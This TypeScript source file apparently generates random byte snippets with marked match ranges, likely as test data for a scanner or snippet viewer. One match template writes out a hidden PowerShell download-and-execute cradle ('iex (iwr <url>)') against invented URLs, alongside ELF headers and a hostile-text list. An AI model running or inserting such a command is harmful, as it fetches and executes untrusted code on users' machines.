import type { MarkedRange, SnippetDescription } from '../snippet.ts';
import type { Dice } from './dice.ts';
import { HOSTILE_TEXTS, inventDomain, inventUrl, part, twoWords } from './words.ts';

/** Bytes as they lie around a match, and where the match is: one in a few lines, or many, or one over many lines. */
export function createSnippetBytes(dice: Dice): SnippetDescription {
  const pieces: Uint8Array[] = [createNoise(dice, 20 + dice.below(60))];
  const marked: MarkedRange[] = [];
  const matches = dice.chance(1, 15) ? 12 : 1 + dice.below(3);
  for (let i = 0; i < matches; i++) {
    const start = pieces.reduce((sum, piece) => sum + piece.length, 0);
    const match = createMatch(dice);
    pieces.push(match, createNoise(dice, 24 + dice.below(80)));
    marked.push({ start, end: start + match.length });
  }
  return { bytes: Buffer.concat(pieces), marked };
}

function createMatch(dice: Dice): Uint8Array {
  switch (dice.below(8)) {
    case 0:
      return createNoise(dice, 2 + dice.below(6));
    case 1:
      return Buffer.from(`${twoWords(dice).join('-')}.dll`, 'utf16le');
    case 2:
      return Buffer.from(dice.pick(HOSTILE_TEXTS).slice(0, 60));
    case 3:
      return Buffer.from(`powershell -nop -w hidden -c "iex (iwr ${inventUrl(dice)})"`);
    case 4:
      return Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
    case 5:
      return Buffer.from(`Host: ${inventDomain(dice)}\r\n`);
    default:
      return Buffer.from(`${part(dice)}_${twoWords(dice)[1]}`);
  }
}

/** Half of it code-like bytes, half of it text with zero bytes between. */
function createNoise(dice: Dice, length: number): Uint8Array {
  const binary = dice.chance(1, 2);
  return Uint8Array.from({ length }, () => {
    if (binary) return dice.below(256);
    return dice.chance(1, 6) ? 0 : 0x20 + dice.below(0x60);
  });
}
